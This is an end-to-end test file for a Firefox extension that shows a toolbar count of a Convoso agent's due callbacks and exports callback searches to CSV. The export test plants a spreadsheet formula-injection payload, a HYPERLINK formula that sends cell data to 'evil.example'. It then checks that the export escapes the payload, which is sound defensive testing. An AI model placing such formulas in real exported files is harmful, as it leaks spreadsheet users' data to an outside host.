import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import { AGENTS } from '../../mock-api/catalog';
import { DEMO_TOKEN, FIXTURE_LEADS } from '../../mock-api/server';
import { CSV_COLUMNS } from '../../utils/search/export/csv';
import { byLabel, clickButton, connectThroughOptions, launchExtension, searchTabOpenedBy, textOf, typeInto, waitForText, waitUntil, type ExtensionSession } from '../harness';
import { openSettledPage } from '../support/popup-page';
import { parseCsv } from '../support/csv';

// Issue 12's toolbar count and Export CSV in a real Firefox (MV2: `browserAction`, a
// background page, a download from an extension page). Set up through the options page
// as an agent does; one Firefox for the file, so the tests run in order.

let ff: ExtensionSession;
let options: Page;
let downloads: string;
const agent = AGENTS[0]!;
const searchRequests = () => ff.api.searchRequests();

// Called from an extension page: in Firefox only `browser.*` returns promises, and MV2
// has `browserAction` where Chrome's MV3 has `action`. (`globalThis.browser`: a bare
// `browser` would be rewritten by the test runner's transform.)
const toolbarText = (): Promise<string> => options.evaluate(() => (globalThis as any).browser.browserAction.getBadgeText({}));
const toolbarColour = (): Promise<number[]> => options.evaluate(() => (globalThis as any).browser.browserAction.getBadgeBackgroundColor({}));
const dueAlarm = (): Promise<{ periodInMinutes?: number } | null> => options.evaluate(async () => (await (globalThis as any).browser.alarms.get('due-count')) ?? null);

describe('power tools in a real Firefox', () => {
  beforeAll(async () => {
    ff = await launchExtension({ fresh: true });
    // Every download is saved here, without asking.
    downloads = ff.downloads;
    options = await connectThroughOptions(ff);
  });
  afterAll(() => ff?.close());

  it('toolbar count: waits for a user ID, then counts the agent’s due callbacks and follows the API’s data', async () => {
    const box = await byLabel(options, 'Show my due callbacks on the toolbar icon');
    expect(await box.evaluate((el) => el.disabled)).toBe(true);
    expect(await toolbarText()).toBe('');

    await typeInto(options, 'Convoso user ID', agent.id);
    await clickButton(options, 'Save');
    await waitForText(options, '#connection-status', 'Saved.');
    await waitUntil(() => box.evaluate((el) => !el.disabled), 'the toolbar count stayed disabled after saving a user ID');
    const before = searchRequests().length;
    await box.click();
    await waitUntil(async () => searchRequests().length - before >= 2, 'the count never asked the API');
    // The two counts are asked at once: they reach the API in either order.
    const asked = searchRequests().slice(before).map((r) => r.query);
    const pending = asked.find((q) => q.stage === 'PENDING');
    const pastDue = asked.find((q) => q.stage === 'PASTDUE');
    const today = pending!.end_date!;
    expect(pending).toMatchObject({ user_id: agent.id, stage: 'PENDING', limit: '1', end_date: new Date().toLocaleDateString('en-CA') });
    expect(pastDue).toMatchObject({ user_id: agent.id, stage: 'PASTDUE', limit: '1', end_date: today });

    const due = ff.api.dataset.callbacks.filter(
      (c) => c.record.user === agent.id && (c.stageKey === 'PENDING' || c.stageKey === 'PASTDUE') && c.date <= today,
    );
    expect(due.some((c) => c.stageKey === 'PASTDUE')).toBe(true);
    await waitUntil(async () => (await toolbarText()) === String(due.length), `the toolbar never read ${due.length}`);
    // Red: something is past due.
    await waitUntil(async () => JSON.stringify(await toolbarColour()) === '[179,38,30,255]', 'the toolbar count is not red');
    expect(await waitUntil(dueAlarm, 'no due-count alarm')).toMatchObject({ periodInMinutes: 15 });

    // The agent completes one in Convoso; the next alarm shows one fewer. (The alarm is
    // fired now, with its period kept, from an extension page.)
    const done = due.find((c) => c.stageKey === 'PENDING') ?? due[0]!;
    (done as { stageKey: string }).stageKey = 'COMPLETED';
    await ff.inExtension((b) => b.browser.alarms.create('due-count', { when: Date.now(), periodInMinutes: 15 }));
    await waitUntil(async () => (await toolbarText()) === String(due.length - 1), `the toolbar never read ${due.length - 1}`);

    await box.click();
    await waitUntil(async () => (await toolbarText()) === '', 'the toolbar count stayed after turning it off');
    await waitUntil(async () => (await dueAlarm()) === null, 'the due-count alarm stayed after turning the count off');
  });

  it('Export CSV from the tab view saves every callback of a multi-page result as one file', async () => {
    const pastDue = ff.api.dataset.callbacks.filter((c) => c.stageKey === 'PASTDUE');
    expect(pastDue.length).toBeGreaterThan(2000);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const hostile = pastDue[400]!.record;
    hostile.comments = formula;

    // The tab opens on the agent's callbacks that need action; the export's pages are counted from there.
    const tab = await openSettledPage(ff, 'search.html');
    await (await byLabel(tab, 'Stage')).select('PASTDUE');
    await clickButton(tab, 'Export CSV');
    await waitForText(tab, '.export-status', `Exported ${pastDue.length.toLocaleString('en-US')} callbacks.`, 60_000);
    // Firefox writes a download under a random name of its own, then renames it to the page's.
    const named = /^callbacks-\d{4}-\d{2}-\d{2}-\d{4}\.csv$/;
    const file = await waitUntil(
      async () => (await readdir(downloads)).find((name) => named.test(name)),
      'no CSV file named callbacks-<date>-<time>.csv was saved',
      60_000,
    ).catch(async (error: Error) => {
      throw new Error(`${error.message}; the folder holds ${JSON.stringify(await readdir(downloads))}`);
    });

    // The file is complete once Firefox has renamed it from its .part and the rows are all there.
    const rows = await waitUntil(async () => {
      const bytes = await readFile(path.join(downloads, file));
      if (bytes.length < 3) return null;
      const parsed = parseCsv(bytes.toString('utf8').slice(1));
      return parsed.length === pastDue.length + 1 ? { bytes, parsed } : null;
    }, 'the CSV file never held every callback');
    expect([...rows.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...body] = rows.parsed;
    expect(header).toEqual(CSV_COLUMNS.map((c) => c.header));
    const idAt = header!.indexOf('Callback ID');
    const commentsAt = header!.indexOf('Comments');
    expect(body.map((r) => r[idAt]).sort()).toEqual(pastDue.map((c) => c.record.id).sort());
    expect(body.find((r) => r[idAt] === hostile.id)![commentsAt]).toBe(`'${formula}`);
    expect(searchRequests().filter((r) => r.query.limit === '1000').map((r) => [r.query.stage, r.query.offset])).toEqual([
      ['PASTDUE', '0'],
      ['PASTDUE', '1000'],
      ['PASTDUE', '2000'],
    ]);
    expect(await textOf(tab, 'body')).not.toContain(DEMO_TOKEN);
    await tab.close();
  });

  it('Export CSV in the popup hands the search to a new tab, which saves the file', async () => {
    const before = new Set(await readdir(downloads));
    const popup = await ff.openPage('popup.html');
    await typeInto(popup, 'Lead ID', FIXTURE_LEADS.leadB);
    // The popup closes when it loses focus, so the export runs in a tab of its own (which
    // drops `export=1` from its address once started, so a reload does not export again).
    const tab = await searchTabOpenedBy(
      ff,
      () => clickButton(popup, 'Export CSV'),
      (query) => query.get('lead_id') === FIXTURE_LEADS.leadB,
      'no tab took over the export',
    );
    await waitForText(tab, '.export-status', 'Exported 5 callbacks.', 60_000);
    const file = await waitUntil(
      async () => (await readdir(downloads)).find((name) => !before.has(name) && name.endsWith('.csv')),
      'no new CSV file was saved',
    );
    const rows = await waitUntil(async () => {
      const parsed = parseCsv((await readFile(path.join(downloads, file), 'utf8')).slice(1));
      return parsed.length === 6 ? parsed : null;
    }, 'the CSV file never held the lead’s 5 callbacks');
    const leadAt = rows[0]!.indexOf('Lead ID');
    expect(rows.slice(1).map((r) => r[leadAt])).toEqual(Array(5).fill(FIXTURE_LEADS.leadB));
    await tab.close();
    if (!popup.isClosed()) await popup.close();
  });
});
